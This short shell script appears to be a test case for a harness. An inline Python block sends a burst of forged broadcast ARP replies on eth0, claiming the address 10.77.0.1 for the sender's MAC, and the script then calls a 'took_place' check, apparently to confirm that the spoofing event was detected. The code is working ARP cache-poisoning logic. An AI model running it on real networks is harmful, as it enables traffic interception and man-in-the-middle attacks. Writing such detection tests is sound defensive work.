#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import socket, struct, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0x806)); m = s.getsockname()[4]
for n in range(20):
    v = bytes([10, 77, 0, 3 + n % 5])
    s.send(b"\xff" * 6 + m + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x800, 6, 4, 2) + m + bytes([10, 77, 0, 1]) + b"\xff" * 6 + v); time.sleep(0.1)
END
took_place
